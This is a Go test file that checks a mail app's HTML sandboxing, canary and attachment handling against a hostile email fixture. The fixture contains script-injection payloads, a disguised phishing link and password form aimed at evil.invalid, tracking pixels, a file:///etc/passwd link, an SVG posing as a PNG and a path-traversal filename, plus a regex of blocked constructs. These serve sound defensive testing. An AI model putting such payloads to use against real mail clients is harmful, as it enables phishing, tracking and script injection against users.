package app

import (
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"
)

const hostileMail = `From: Ana Vega <ana@vega-labs.example>
To: support@kestrel.example
Subject: Hostile
Date: NOW
Message-ID: <hostile@vega-labs.example>
MIME-Version: 1.0
Content-Type: multipart/related; boundary=b

--b
Content-Type: text/html; charset=utf-8

<html><head><script>steal()</script><base href="https://evil.invalid/"><meta http-equiv="refresh" content="0;url=https://evil.invalid/"></head>
<body onload="steal()"><p>Hello <a href="javascript:steal()">run</a> <a href="https://evil.invalid/login">https://kestrel.example/login</a>
<a href="file:///etc/passwd">file</a></p><img src="cid:pic"><img src="cid:page"><img src="https://tracker.invalid/pixel.gif?who=ana">
<iframe src="/"></iframe><form action="https://evil.invalid/"><input name="password"></form><svg><script>steal()</script></svg>
<div style="background:url(https://tracker.invalid/bg.png);position:fixed">x</div><object data="x"></object></body></html>
--b
Content-Type: image/png
Content-ID: <pic>
Content-Transfer-Encoding: base64

iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==
--b
Content-Type: image/png; name="../../evil.svg"
Content-ID: <page>

<svg xmlns="http://www.w3.org/2000/svg"><script>steal()</script></svg>
--b
Content-Type: text/html; name="page.html"
Content-Disposition: attachment; filename="page.html"

<script>steal()</script>
--b--
`

// hostile lets the mail arrive and gives its key and ticket.
func hostile(t *testing.T, p *page) (EntryView, string) {
	t.Helper()
	if err := p.desk.Deliver(strings.Replace(hostileMail, "NOW", time.Now().Format(time.RFC1123Z), 1)); err != nil {
		t.Fatal(err)
	}
	if err := p.team.SyncNow(); err != nil {
		t.Fatal(err)
	}
	var row Row
	p.until(t, "the hostile mail", func() bool {
		rows := p.all(t, "all")
		at := slices.IndexFunc(rows, func(r Row) bool { return r.Subject == "Hostile" })
		if at >= 0 {
			row = rows[at]
		}
		return at >= 0
	})
	v := must[TicketView](t, "open")(p.inbox.Open(row.ID))
	return v.Entries[0], row.ID
}

func get(p *page, method, address string) *httptest.ResponseRecorder {
	w := httptest.NewRecorder()
	guarded(p.mail).ServeHTTP(w, httptest.NewRequest(method, address, http.NoBody))
	return w
}

func TestAHostileMailInItsFrame(t *testing.T) {
	p := openSample(t)
	e, ticket := hostile(t, p)
	if e.FrameURL == "" || e.RemoteBlocked == 0 || len(e.Links) == 0 {
		t.Fatalf("entry %+v", e)
	}
	t.Run("page", func(t *testing.T) { hostilePage(t, p, e) })
	t.Run("pictures", func(t *testing.T) { hostilePictures(t, p, e) })
	t.Run("links", func(t *testing.T) {
		at := slices.IndexFunc(e.Links, func(l LinkView) bool { return strings.Contains(l.Text, "kestrel.example") })
		if at < 0 || e.Links[at].Host != "evil.invalid" || e.Links[at].Warning == "" {
			t.Fatalf("links %+v", e.Links)
		}
		o := must[LinkOpened](t, "open link")(p.inbox.OpenLink(e.Key, e.Links[at].N, false))
		if o.OK || !strings.Contains(o.Ask, "evil.invalid") {
			t.Errorf("opened %+v", o)
		}
	})
	t.Run("consent", func(t *testing.T) {
		url, err := p.inbox.ShowRemote(e.Key, false)
		if err != nil || !strings.HasPrefix(url, e.FrameURL+"?") {
			t.Fatalf("%q %v", url, err)
		}
		if html := get(p, "GET", url).Body.String(); !strings.Contains(html, pictureURL(e.Key, "remote", 0)) || strings.Contains(html, "tracker.invalid") {
			t.Errorf("the frame after consent: %s", html)
		}
		if v := must[TicketView](t, "open")(p.inbox.Open(ticket)); v.Entries[0].RemoteBlocked != 0 {
			t.Errorf("still blocked: %+v", v.Entries[0])
		}
	})
	t.Run("save", func(t *testing.T) { saveHostile(t, p, e) })
}

func hostilePage(t *testing.T, p *page, e EntryView) {
	for _, address := range []string{e.FrameURL, e.FrameURL + "?theme=dark"} {
		r := get(p, "GET", address)
		html := r.Body.String()
		if r.Code != http.StatusOK || r.Header().Get("Content-Security-Policy") != mailCSP || r.Header().Get("X-Content-Type-Options") != "nosniff" ||
			r.Header().Get("Cache-Control") != "no-store" || r.Header().Get("Content-Type") != "text/html; charset=utf-8" {
			t.Errorf("%s: %d %v", address, r.Code, r.Header())
		}
		if !strings.Contains(html, `<meta http-equiv="Content-Security-Policy" content="`+mailCSP+`">`) || !strings.Contains(html, "Hello") {
			t.Errorf("%s", html)
		}
		if bad := regexp.MustCompile(`(?i)<script|onload|javascript:|steal|<iframe|<form|<input|<base|refresh|<svg|<object|invalid/(?:pixel|bg|login)|file:`).FindString(html); bad != "" {
			t.Errorf("%s lets through %q", address, bad)
		}
	}
	if r := get(p, "POST", e.FrameURL); r.Code != http.StatusMethodNotAllowed {
		t.Errorf("POST: %d", r.Code)
	}
	for _, address := range []string{"/mail/", "/mail/x", "/mail/m../cid/0", e.FrameURL + "/", e.FrameURL + "/cid/", e.FrameURL + "/cid/99", e.FrameURL + "/part/1", "/mail/m0000000000000000"} {
		if r := get(p, "GET", address); r.Code != http.StatusNotFound {
			t.Errorf("%s: %d", address, r.Code)
		}
	}
}

func hostilePictures(t *testing.T, p *page, e EntryView) {
	r := get(p, "GET", e.FrameURL+"/cid/0")
	if r.Code != http.StatusOK || r.Header().Get("Content-Type") != "image/png" || r.Header().Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("picture: %d %v", r.Code, r.Header())
	}
	// It says image/png and is SVG with a script.
	if r := get(p, "GET", e.FrameURL+"/cid/1"); r.Code != http.StatusUnsupportedMediaType || strings.Contains(r.Body.String(), "steal") {
		t.Errorf("an SVG: %d", r.Code)
	}
	if r := get(p, "GET", e.FrameURL+"/remote/0"); r.Code != http.StatusNotFound {
		t.Errorf("a picture from outside without consent: %d", r.Code)
	}
}

func saveHostile(t *testing.T, p *page, e EntryView) {
	at := slices.IndexFunc(e.Attachments, func(a Attachment) bool { return a.Name == "page.html" })
	if at < 0 {
		t.Fatalf("attachments %+v", e.Attachments)
	}
	if d := must[FileDone](t, "cancelled")(p.inbox.SaveAttachment(e.Attachments[at].ID, true)); d.Text != "" {
		t.Errorf("a cancelled dialog saved: %+v", d)
	}
	p.pane.save = filepath.Join(t.TempDir(), "kept.html")
	if d := must[FileDone](t, "save")(p.inbox.SaveAttachment(e.Attachments[at].ID, true)); !strings.Contains(d.Text, "page.html") {
		t.Errorf("saved %+v", d)
	}
	data, err := os.ReadFile(p.pane.save)
	if err != nil || !strings.Contains(string(data), "steal()") {
		t.Errorf("%q %v", data, err)
	}
	if info, err := os.Stat(p.pane.save); err != nil || runtime.GOOS != "windows" && info.Mode().Perm() != 0o600 {
		t.Errorf("%v %v", info, err)
	}
	if left, err := filepath.Glob(filepath.Join(filepath.Dir(p.pane.save), ".deskhand-*")); err != nil || len(left) > 0 {
		t.Errorf("left behind %v %v", left, err)
	}
}

// The canary's page tries what no mail may do; what it could do decides whether mail is shown as HTML.
func TestTheCanaryDecides(t *testing.T) {
	h := openHost(t, Options{Data: t.TempDir()})
	team, inbox := &Team{h}, &Inbox{h}
	p := &page{host: h}
	safe := func() bool { return must[Session](t, "session")(inbox.Session()).HTMLSafe }
	if safe() {
		t.Error("HTML is shown before the canary was heard")
	}
	html := get(p, "GET", canaryPath).Body.String()
	if !strings.Contains(html, "data-canary") || !strings.Contains(html, "<script>") || !strings.Contains(html, mailCSP) {
		t.Errorf("canary: %s", html)
	}
	if err := team.CanaryResult(false, false); err != nil || !safe() {
		t.Errorf("a silent canary: %v", err)
	}
	for _, c := range [][2]bool{{true, false}, {false, true}} {
		if err := team.CanaryResult(c[0], c[1]); err != nil || safe() {
			t.Errorf("%v: %v", c, err)
		}
		if r := get(p, "GET", "/mail/m0000000000000000"); r.Code != http.StatusInternalServerError || !strings.Contains(r.Body.String(), "as text") {
			t.Errorf("%v: a mail's page is given out: %d", c, r.Code)
		}
		list := must[[]Problem](t, "problems")(team.Problems())
		if len(list) != 1 || list[0].Code != problemCanary {
			t.Errorf("%v: problems %+v", c, list)
		}
	}
	// The web view asked for the picture although it never told so.
	html = get(p, "GET", canaryPath).Body.String()
	picture := regexp.MustCompile(`http://127\.0\.0\.1:\d+/\w+\.gif`).FindString(html)
	r, err := http.Get(picture) //nolint:noctx // as a web view would
	if err != nil {
		t.Fatal(err)
	}
	r.Body.Close()
	if err := team.CanaryResult(false, false); err != nil || safe() {
		t.Errorf("a picture that was asked for: %v", err)
	}
}
